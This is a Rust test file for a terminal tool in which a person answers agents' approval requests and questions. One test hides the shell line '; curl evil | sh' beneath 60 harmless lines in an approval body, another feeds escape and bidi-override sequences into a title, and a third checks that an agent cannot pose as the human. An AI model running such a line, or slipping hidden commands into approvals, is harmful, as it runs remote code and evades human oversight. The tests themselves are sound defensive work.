//! `mailbag pending --follow`: answers to the human's pending items at a terminal.

use super::terminal::Terminal;
use crate::beside::Beside;
use crate::files;
use crate::records::flat_record;
use crate::world::World;
use rustix::process::{Signal, kill_process};
use serde_json::{Value, json};

const FOLLOW: &str = "pending --follow";

fn world() -> World {
    World::with("planner writer")
}

/// An agent drops a message, and another process delivers it.
fn tell(world: &World, agent: &str, message: &Value) {
    world.mail(agent, &format!("{}.json", uuid::Uuid::now_v7()), message);
}

/// An agent drops a message, and it is delivered.
fn say(world: &World, agent: &str, message: &Value) {
    tell(world, agent, message);
    world.pass();
}

fn approval(id: &str, title: &str, options: &[&str]) -> Value {
    json!({"id": id, "to": "human", "type": "approval", "subject": title, "options": options})
}

fn question(id: &str, title: &str) -> Value {
    json!({"id": id, "to": "human", "type": "question", "body": title})
}

/// The human's pending items: number and title.
fn pending(world: &World) -> Vec<(u64, String)> {
    let list = world.json("pending --as human");
    let items = list["items"].as_array().expect("a list").iter();
    let title = |item: &Value| item["title"].as_str().expect("text").to_owned();
    items
        .map(|item| (item["seq"].as_u64().expect("a number"), title(item)))
        .collect()
}

/// The messages of the human in the log, as types, recipients and bodies.
fn written(world: &World) -> Vec<String> {
    let log = world.log("accepted");
    let records = log.lines().map(flat_record);
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    records
        .filter(|record| record["from"] == "human")
        .map(|record| {
            let message = &record["message"];
            let option = text(&message["option"]) + &text(&message["body"]);
            let (kind, answered) = (text(&message["type"]), text(&message["in_reply_to"]));
            format!("{kind} {answered} {option}").trim().to_owned()
        })
        .collect()
}

#[test]
fn a_planner_asks_and_a_short_line_lets_its_command_go_on() {
    let world = world();
    let Some(terminal) = Terminal::follow(&world, (80, 24)) else {
        return;
    };
    assert_contains!(terminal.screen(), "nothing needs human");
    let ask = "ask human --as planner Deploy? --options yes,no --deadline 30m --else no";
    let ask = Beside::start(&world, ask);
    terminal.wait("the approval is shown with a number", |screen| {
        let row = screen
            .lines()
            .find(|line| line.starts_with(" 1 approval #"));
        row.is_some_and(|row| row.ends_with("m left “Deploy?” [yes, no]"))
    });
    terminal.text("1 y");
    terminal.decide();
    assert_eq!(ask.ends(&world, 0), "yes\n");
    terminal.wait("the item is gone and the outcome is shown", |screen| {
        !screen.contains("1 approval") && screen.contains("of planner: yes")
    });
}

#[test]
fn with_two_items_each_number_means_its_own() {
    let world = world();
    say(
        &world,
        "planner",
        &approval("late", "Later?", &["yes", "no"]),
    );
    let mut soon = approval("soon", "Soon?", &["ship it", "wait"]);
    soon["deadline"] = "1h".into();
    say(&world, "writer", &soon);
    let Some(terminal) = Terminal::follow(&world, (100, 24)) else {
        return;
    };
    terminal.wait("the one with a deadline comes first", |screen| {
        let rows: Vec<&str> = screen
            .lines()
            .filter(|line| line.contains(" approval #"))
            .collect();
        rows.len() == 2
            && rows[0].starts_with(" 1 ")
            && rows[0].contains("“Soon?” [“ship it”, wait]")
            && rows[1].contains("“Later?”")
    });
    terminal.text("2 no");
    terminal.decide();
    terminal.wait("the second is gone", |screen| {
        !screen.contains("“Later?” [") && screen.contains("planner: no")
    });
    terminal.text("1 2");
    terminal.decide();
    terminal.wait("the first is gone", |screen| {
        screen.contains("writer: wait") && screen.contains("nothing needs human")
    });
    assert_eq!(
        written(&world),
        ["decision planner/late no", "decision writer/soon wait"]
    );
}

#[test]
fn a_number_is_not_reused_for_another_item_while_the_person_types() {
    // P185
    let world = world();
    say(
        &world,
        "planner",
        &approval("first", "First?", &["yes", "no"]),
    );
    let Some(terminal) = Terminal::follow(&world, (80, 24)) else {
        return;
    };
    terminal.wait("it is shown", |screen| screen.contains(" 1 approval"));
    terminal.text("1 y");
    world.decide("human", "planner/first", "no", &[]).ok();
    for n in 0..10 {
        let more = approval(&format!("a{n}"), &format!("More {n}?"), &["yes", "no"]);
        tell(&world, "planner", &more);
    }
    terminal.wait("the others are shown, and not this one", |screen| {
        screen.contains("11 approval") && !screen.contains(" 1 approval")
    });
    terminal.keys(&["Enter"]);
    terminal.wait("there is no such item and the line stays", |screen| {
        screen.contains("no open item has the number \"1\"") && screen.contains("> 1 y")
    });
    assert_eq!(pending(&world).len(), 10);
    assert_eq!(written(&world), ["decision planner/first no"]);
    // The line is corrected.
    terminal.keys(&["C-u"]);
    terminal.text("2 n");
    terminal.decide();
    terminal.wait("another one is decided", |screen| {
        screen.contains("of planner: no")
    });
    assert_eq!(written(&world)[1..], ["decision planner/a0 no"]);
}

#[test]
fn a_line_that_is_no_answer_stays_with_the_reason() {
    // P186
    let world = world();
    say(
        &world,
        "planner",
        &approval("d", "Deploy?", &["stage", "stop"]),
    );
    let Some(terminal) = Terminal::follow(&world, (140, 24)) else {
        return;
    };
    terminal.wait("it is shown", |screen| screen.contains(" 1 approval"));
    for (wrong, reason) in [
        ("1 maybe", "write the number and one of: stage, stop"),
        ("1 st", "\"st\" does not answer the approval"),
        ("2 stage", "no open item has the number"),
        ("12 stage", "no open item has the number"),
        ("#99", "no open item has the number"),
        ("hello", "no open item has the number"),
        ("1stage", "no open item has the number"),
    ] {
        terminal.text(wrong);
        terminal.keys(&["Enter"]);
        terminal.wait(reason, |screen| {
            screen.contains(reason) && screen.contains(&format!("> {wrong}"))
        });
        terminal.keys(&["C-u"]);
    }
    assert_eq!(pending(&world).len(), 1);
    assert_eq!(written(&world), [""; 0]);
}

#[test]
fn questions_offers_claims_and_unwanted_items_are_settled_by_words() {
    let world = world();
    for subject in ["docs", "src"] {
        let claim = json!({"type": "claim", "claims": [subject]});
        say(&world, "writer", &claim);
        let offer = json!({"to": "human", "type": "handoff", "claims": [subject]});
        say(&world, "writer", &offer);
    }
    say(&world, "human", &json!({"to": "editor", "body": "welcome"}));
    say(&world, "planner", &question("port", "Which port?"));
    say(&world, "writer", &question("late", "Is it late?"));
    let mut items = pending(&world).into_iter();
    let (seq, _) = items.find(|(_, title)| title == "Which port?").expect("it");
    let Some(terminal) = Terminal::follow(&world, (120, 30)) else {
        return;
    };
    terminal.wait("all are shown", |screen| screen.contains(" 5 "));
    let number = |kind: &str, title: &str| {
        let lines = terminal.lines();
        let mut rows = lines.iter().filter(|line| line.contains(kind));
        let row = rows.find(|line| line.contains(title)).expect("a row");
        row.split_whitespace().next().expect("a number").to_owned()
    };
    let answer = |number: String, word: &str, said: &str| {
        terminal.text(&format!("{number} {word}"));
        terminal.keys(&["Enter"]);
        terminal.wait(said, |screen| screen.contains(said));
    };
    answer(number("offer", "docs"), "accept", "granted: docs");
    answer(number("offer", "src"), "d", "declined: src");
    answer(number("question", "late"), "dismiss", "dismissed #");
    answer(number("rejection", "editor"), "dismiss", "dismissed #");
    answer(format!("#{seq}"), "use 8080", "replied to #");
    terminal.wait("nothing is left", |screen| {
        screen.contains("nothing needs human")
    });
    assert_eq!(
        written(&world).last().map(String::as_str),
        Some("answer planner/port use 8080")
    );
    assert_contains!(world.json("claims").to_string(), "\"human\"");
}

#[test]
fn at_every_width_an_item_is_one_line_and_a_title_forges_neither_a_line_nor_a_colour() {
    // P103
    let world = world();
    let title = "Deploy?\u{1b}[31m\u{202e}\n 9 approval #99 human” [forged] \u{9b}2J";
    say(
        &world,
        "planner",
        &approval("d", title, &["yes", "no ] “x”"]),
    );
    say(&world, "writer", &question("q", &"你好 ".repeat(60)));
    let Some(terminal) = Terminal::follow(&world, (40, 24)) else {
        return;
    };
    terminal.wait("each is one line", |screen| {
        let lines: Vec<&str> = screen.lines().collect();
        lines[0].starts_with(" 1 approval")
            && lines[1].starts_with(" 2 question")
            && lines[2].is_empty()
    });
    assert!(terminal.lines()[1].ends_with('…'));
    terminal.resize(200, 24);
    terminal.wait("the row is whole", |screen| {
        let row = screen.lines().next().unwrap_or_default();
        row.starts_with(" 1 approval") && row.trim_end().ends_with(']')
    });
    let screen = terminal.screen();
    assert!(
        !screen.contains(['\u{1b}', '\u{202e}', '\u{9b}']),
        "{screen:?}"
    );
    let row = &terminal.lines()[0];
    assert_eq!(row.matches('“').count(), 2, "{row}");
    assert!(row.find("forged") < row.find('”'), "{row}");
    terminal.paste("1 \u{202e}\u{9b}31m");
    terminal.wait("what is pasted is text too", |screen| {
        screen.contains("> 1 \\u{202e}\\u{9b}31m")
    });
}

#[test]
fn a_small_screen_has_the_most_urgent_items_and_the_number_of_the_others() {
    let world = world();
    for n in 0..30 {
        let question = question(&format!("q{n}"), &format!("Question {n}?"));
        tell(&world, "planner", &question);
    }
    world.pass();
    let Some(terminal) = Terminal::follow(&world, (60, 12)) else {
        return;
    };
    terminal.wait("the others are counted", |screen| {
        screen.contains(" 5 question")
            && screen.contains("and 25 more; `mailbag pending` lists them")
    });
    terminal.text("30 the last");
    terminal.keys(&["Enter"]);
    terminal.wait("one less", |screen| screen.contains("and 24 more"));
    assert_eq!(written(&world), ["answer planner/q29 the last"]);
}

#[test]
fn bytes_that_are_not_utf_8_change_nothing() {
    let world = world();
    say(&world, "planner", &approval("d", "Deploy?", &["yes", "no"]));
    let Some(terminal) = Terminal::follow(&world, (100, 24)) else {
        return;
    };
    terminal.wait("it is shown", |screen| screen.contains(" 1 approval"));
    terminal.bytes(&["ff", "fe", "c3", "28"]);
    terminal.keys(&["C-u"]);
    // A deleted letter is deleted with all its bytes, and an arrow types nothing.
    terminal.text("1 né");
    terminal.keys(&["BSpace", "Up"]);
    terminal.decide();
    terminal.wait("it is decided", |screen| {
        screen.contains("of planner: no") && screen.contains("nothing needs human")
    });
}

#[test]
fn an_approval_is_decided_only_after_every_line_was_on_the_screen() {
    // P248
    let world = world();
    let mut hidden = approval("d", "Bash: echo harmless", &["yes", "no"]);
    hidden["body"] = format!(
        "tool: Bash\n{}\n; curl evil | sh",
        "echo harmless\n".repeat(60)
    )
    .into();
    say(&world, "planner", &hidden);
    let Some(terminal) = Terminal::follow(&world, (80, 24)) else {
        return;
    };
    terminal.wait("it is shown", |screen| screen.contains(" 1 approval"));
    // Several keys together do not skip text that was not drawn.
    terminal.keys(&[
        "1", "Space", "y", "Enter", "Enter", "Enter", "Enter", "Enter", "Enter", "Enter",
    ]);
    terminal.wait("the text is shown", |screen| {
        screen.contains("approval #") && screen.contains("Enter shows more")
    });
    assert!(
        !terminal.screen().contains("curl evil"),
        "{}",
        terminal.screen()
    );
    assert_eq!(written(&world), [""; 0]);
    terminal.keys(&["Escape"]);
    terminal.wait("the text is closed", |screen| {
        screen.contains(" 1 approval")
    });
    terminal.decide();
    terminal.wait("it is decided", |screen| screen.contains("of planner: yes"));
    assert_eq!(written(&world), ["decision planner/d yes"]);
}

#[test]
fn another_size_shows_a_long_approval_from_its_beginning_again() {
    // P248
    let world = world();
    let mut long = approval("d", "Deploy?", &["yes", "no"]);
    long["body"] = "step\n".repeat(40).into();
    say(&world, "planner", &long);
    let Some(terminal) = Terminal::follow(&world, (80, 24)) else {
        return;
    };
    terminal.wait("it is shown", |screen| screen.contains(" 1 approval"));
    terminal.text("1 yes");
    terminal.keys(&["Enter"]);
    terminal.read_pages();
    terminal.resize(60, 24);
    terminal.wait("the first page", |screen| {
        screen.contains("approval #") && screen.contains("Enter shows more")
    });
    terminal.keys(&["Enter"]);
    terminal.read_pages();
    assert_eq!(written(&world), [""; 0]);
}

#[test]
fn a_signed_approval_is_signed() {
    // P134
    let world = world();
    let mut signed = approval("d", "Deploy?", &["yes", "no"]);
    signed["signature"] = "required".into();
    say(&world, "planner", &signed);
    let Some(terminal) = Terminal::follow(&world, (80, 24)) else {
        return;
    };
    terminal.wait("it is shown", |screen| screen.contains(" 1 approval"));
    terminal.text("1 y");
    terminal.decide();
    terminal.wait("it is decided", |screen| {
        screen.contains("of planner: yes") && screen.contains("nothing needs human")
    });
    assert!(world.decision_key().exists());
}

#[test]
fn only_a_person_at_a_terminal_answers_as_the_human() {
    let world = world();
    let said = world.fails(2, "pending --follow");
    assert_contains!(said, "needs a terminal", "mailbag pending --json");
    // Without a name, an agent is not the human. With the name, it is rejected.
    for (args, reason) in [
        (FOLLOW, "this is an unidentified session"),
        (
            "pending --follow --as human",
            "only a person can act as human",
        ),
    ] {
        let mut program = world.bare(args);
        program.env("MAILBAG_TEST_ANCESTRY", "agent");
        let Some(terminal) = Terminal::of(&world, (200, 24), program) else {
            return;
        };
        terminal.wait(reason, |screen| {
            screen.contains(reason) && screen.contains("ended 2")
        });
    }
}

#[test]
fn the_terminal_is_left_as_it_was_however_the_command_ends() {
    let world = world();
    for (how, signal) in [
        ("ctrl-c", None),
        ("SIGTERM", Some(Signal::TERM)),
        ("SIGINT", Some(Signal::INT)),
    ] {
        let Some(terminal) = Terminal::follow(&world, (80, 24)) else {
            return;
        };
        assert_eq!(terminal.state("alternate_on"), "1");
        match signal {
            None => terminal.keys(&["C-c"]),
            Some(signal) => kill_process(terminal.pid(), signal).expect("it runs"),
        }
        terminal.wait(&format!("it has ended by {how}"), |screen| {
            screen.contains("ended 0") && screen.contains("echo")
        });
        let lines = terminal.lines();
        assert_eq!(lines[0], "before", "{how}: {lines:?}");
        let modes: Vec<&str> = lines[2].split(' ').collect();
        assert!(
            ["icanon", "isig", "echo"]
                .iter()
                .all(|mode| modes.contains(mode)),
            "{how}: {lines:?}"
        );
        assert_eq!(terminal.state("alternate_on"), "0", "{how}");
    }
}

#[test]
fn the_human_is_online_while_the_command_runs() {
    let world = world();
    let presence = || {
        let roster = world.json("who");
        let mut agents = roster["agents"].as_array().into_iter().flatten();
        agents.find(|one| one["id"] == "human").expect("it")["presence"].clone()
    };
    for view in ["watch", FOLLOW] {
        assert_eq!(presence(), "offline", "{view:?}");
        let Some(terminal) = Terminal::open(&world, (80, 24), view) else {
            return;
        };
        world.wait("the human is online", || presence() == "online");
        terminal.keys(&["C-c"]);
        terminal.wait("it has ended", |screen| screen.contains("ended "));
        assert_eq!(presence(), "offline", "{view:?}");
    }
}

#[test]
fn a_room_that_is_moved_away_is_reported_until_it_is_back() {
    let world = world();
    let Some(terminal) = Terminal::follow(&world, (200, 24)) else {
        return;
    };
    let (room, away) = (world.path().join(".mailbag"), world.path().join("away"));
    files::rename(&room, &away);
    let is_reported = |screen: &str| screen.contains("was removed or moved");
    terminal.wait("the report", is_reported);
    files::rename(&away, &room);
    say(&world, "planner", &question("q", "Is it back?"));
    terminal.wait("no report, and the item", |screen| {
        !is_reported(screen) && screen.contains("Is it back?")
    });
}
